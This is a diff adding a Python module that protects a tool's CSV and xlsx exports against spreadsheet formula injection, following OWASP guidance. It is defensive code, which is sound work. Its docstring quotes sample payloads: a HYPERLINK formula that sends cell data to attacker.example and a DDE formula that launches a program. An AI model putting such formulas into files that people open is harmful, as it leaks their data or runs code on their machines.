@@ -1,0 +1,89 @@
+"""Text that dcplan writes into spreadsheet files (CSV, ``.xlsx``) is read as text, never as a formula.
+
+A site file's ``name`` or a fleet phase's ``label`` is copied into the TCO finance export and a
+sweep's CSV. A spreadsheet opening a CSV evaluates a field that begins with ``=``, ``+``, ``-`` or
+``@`` as a formula (``=HYPERLINK("https://attacker.example/?q="&B3,"Open")`` sends a cell's content
+away when clicked; ``-2+3+cmd|' /C calc'!A0`` ran a program in older Excel), and openpyxl stores a
+``str`` beginning with ``=`` as a formula cell. So:
+
+* **CSV** (:func:`safe_text`, :func:`safe_frame`): a text field that begins with ``=``, ``+``,
+  ``-``, ``@``, a tab or a carriage return gets a leading ``'``, as the OWASP guidance on CSV
+  injection [1]_ recommends; Excel and LibreOffice then show the text, not a result. Numbers stay
+  numbers (a negative number is a number, written ``-1.5``, not text), and a lone ``-`` (the
+  Assumptions sheet's unit of a dimensionless switch) is no formula and stays ``-``.
+* **xlsx** (:func:`text_cells`): every cell dcplan writes is a value; a text cell that openpyxl
+  took for a formula (a leading ``=``) or an error code (``#N/A``) is stored as text (an inline
+  string), unchanged, and a text cell that begins with one of the characters above carries
+  Excel's quote prefix (editing it keeps it text).
+
+References
+----------
+.. [1] OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection (the
+   characters ``=``, ``+``, ``-``, ``@``, tab 0x09 and carriage return 0x0D; prefix with ``'``).
+"""
+from __future__ import annotations
+
+import pandas as pd
+
+__all__ = ["FORMULA_STARTS", "TEXT_NOTE", "safe_text", "safe_frame", "write_csv", "text_cells"]
+
+#: First characters that make a spreadsheet read a CSV field as a formula (OWASP [1]_).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+#: What a reader of an export is told (the TCO export's About sheet).
+TEXT_NOTE = ("In the CSVs, text that begins with = + - @ (or a tab or carriage return) is written with a "
+             "leading ' so that a spreadsheet shows it as text, not a formula; the workbook stores such "
+             "text as text, as it is.")
+
+
+def safe_text(value):
+    """``value`` as a CSV field a spreadsheet reads as text: a ``str`` that begins with one of
+    :data:`FORMULA_STARTS` gets a leading ``'``; anything else (numbers, and a lone ``-``: a unit
+    placeholder, no formula) is returned as is.
+
+    >>> safe_text("=HYPERLINK(\\"https://x.example\\")")
+    '\\'=HYPERLINK("https://x.example")'
+    >>> safe_text("-2+3"), safe_text(-2.5), safe_text("phoenix-az")
+    ("'-2+3", -2.5, 'phoenix-az')
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and value != "-":
+        return "'" + value
+    return value
+
+
+def _safe_index(idx: pd.Index) -> pd.Index:
+    if isinstance(idx, pd.MultiIndex):
+        return idx.set_levels([_safe_index(lv) for lv in idx.levels]).set_names(
+            [safe_text(n) for n in idx.names])
+    if idx.dtype == object or pd.api.types.is_string_dtype(idx.dtype):
+        idx = idx.map(safe_text)
+    return idx.rename(safe_text(idx.name))
+
+
+def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
+    """A copy of ``df`` for a CSV: :func:`safe_text` applied to every text value, the column names
+    and the index (labels and name); number columns are not touched."""
+    out = df.copy()
+    for j in range(out.shape[1]):
+        col = out.iloc[:, j]
+        if col.dtype == object or pd.api.types.is_string_dtype(col.dtype):
+            out.isetitem(j, col.map(safe_text))
+    out.columns = _safe_index(out.columns)
+    out.index = _safe_index(out.index)
+    return out
+
+
+def write_csv(df: pd.DataFrame, path, **kw) -> None:
+    """``df.to_csv(path, **kw)`` with its text made safe (:func:`safe_frame`)."""
+    safe_frame(df).to_csv(path, **kw)
+
+
+def text_cells(ws) -> None:
+    """Make every cell of the openpyxl worksheet ``ws`` a value: a cell openpyxl stored as a
+    formula (text beginning with ``=``) or an error (text such as ``#N/A``) becomes a text cell
+    with the same text; a text cell beginning with one of :data:`FORMULA_STARTS` gets Excel's quote
+    prefix (typing over it in Excel keeps it text). dcplan writes no formulas."""
+    for cell in list(ws._cells.values()):  # the cells written (iter_rows would create the empty ones)
+        if cell.data_type in ("f", "e") and isinstance(cell.value, str):
+            cell.data_type = "s"
+        if cell.data_type == "s" and isinstance(cell.value, str) and safe_text(cell.value) != cell.value:
+            cell.quotePrefix = True
